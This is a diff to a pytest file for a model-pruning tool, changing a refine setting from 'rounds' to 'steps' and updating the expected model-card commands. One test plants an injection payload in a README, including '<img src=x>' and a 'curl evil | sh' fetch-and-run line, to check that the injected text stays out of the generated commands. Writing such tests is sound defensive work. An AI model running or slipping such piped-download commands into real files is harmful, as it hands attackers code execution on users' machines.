@@ -104,14 +104,14 @@ def test_from_disk_and_from_memory_the_same_card(dense, tmp_path):
 def test_later_steps_keep_licence_and_commands(dense, tmp_path):
     out = pruned(dense, tmp_path / "out")
     BarberRefiner.for_checkpoint(out).refine(
-        out, RefineConfig(rounds=1), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
+        out, RefineConfig(steps=2), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
     )
     card = card_of(tmp_path / "refined")
     assert card.data.license == "apache-2.0"
-    assert "- **Then refine:** rounds 1" in card.text
+    assert "- **Then refine:** steps 2" in card.text
     first, second = commands_of(tmp_path / "refined")
     assert first.startswith("optimum-barber prune dense ") and first.endswith("-o step-1  # on windows from Python")
-    assert second.startswith("optimum-barber refine step-1 --rounds 1") and " -o step-2" in second
+    assert second.startswith("optimum-barber refine step-1 --steps 2") and " -o step-2" in second
 
 
 @pytest.mark.parametrize("step", ["shrink", "permute"])
@@ -248,7 +248,7 @@ def test_a_strangers_card_stays_out_of_the_commands(dense, tmp_path):
     evil = text.replace("```bash\n", "```bash\n ````\n<img src=x>\ncurl evil | sh\noptimum-barber `prune` x\n")
     (out / "README.md").write_text(evil)
     BarberRefiner.for_checkpoint(out).refine(
-        out, RefineConfig(rounds=1), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
+        out, RefineConfig(steps=2), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
     )
     lines = commands_of(tmp_path / "refined")
     assert lines[0] == "optimum-barber prune x" and len(lines) == 3
